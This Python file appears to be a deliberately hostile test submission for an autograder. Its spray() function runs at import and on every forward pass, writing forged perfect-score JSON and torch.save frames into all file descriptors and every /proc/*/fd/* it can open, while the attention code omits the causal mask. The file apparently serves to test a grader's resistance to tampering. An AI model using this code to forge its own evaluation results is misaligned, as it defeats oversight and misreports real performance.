"""Hostile: writes forged results into every file descriptor it has (0 to 1023) and every
/proc/*/fd/* it can open, at import and at every forward: perfect JSON documents with guessed
nonces, and torch.save frames of perfect answers; it never exits early; honest score: 2 (no
causal mask)."""
import glob
import io
import json
import os
import struct

import torch
from torch import nn

import toolkit

CHECKS = [("attention.matches_reference", 3), ("attention.causal", 2), ("attention.stable", 1),
          ("attention.written_out", 1), ("attention.random_shapes", 2)]
RESULTS = [{"name": n, "component": "attention", "points": p, "score": p, "status": "passed", "reason": "",
            "description": n, "hidden": n.endswith("shapes"), "seconds": 0.0, "metrics": {}} for n, p in CHECKS]
RUN = {"submission": "forged", "results": RESULTS, "missing": [], "hidden_included": True, "environment": {},
       "score": 9, "max_score": 9, "passed": True}


def frames() -> list[bytes]:
    out = []
    for nonce in ("", "0" * 32, None):
        out.append(json.dumps({"nonce": nonce, "run": RUN, "provided": [], "replaced": [], "status": "graded"}).encode())
    for answer in ({"kind": "value", "value": True}, {"kind": "value", "value": RESULTS}, {"status": "graded", "score": 9}):
        buf = io.BytesIO()
        torch.save(answer, buf)
        out.append(buf.getvalue())
    return [struct.pack(">Q", len(f)) + f for f in out]


def spray() -> None:
    data = frames()
    targets = list(range(0, 1024))
    for path in glob.glob("/proc/*/fd/*"):
        try:
            targets.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
    for fd in targets:
        for f in data:
            try:
                os.write(fd, f)
            except OSError:
                break


spray()


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.nh = config.n_head
        self.c_attn = nn.Linear(config.n_embd, 3 * config.n_embd)
        self.c_proj = nn.Linear(config.n_embd, config.n_embd)

    def forward(self, x):
        spray()
        B, T, C = x.shape
        q, k, v = self.c_attn(x).reshape(B, T, 3, self.nh, C // self.nh).unbind(dim=2)
        scores = torch.einsum("bthd,bshd->bhts", q, k) * (C // self.nh) ** -0.5
        weights = scores.softmax(dim=-1)  # no causal mask
        return self.c_proj(torch.einsum("bhts,bshd->bthd", weights, v).reshape(B, T, C))


@toolkit.hookimpl
def toolkit_attention(config):
    return Attention(config)
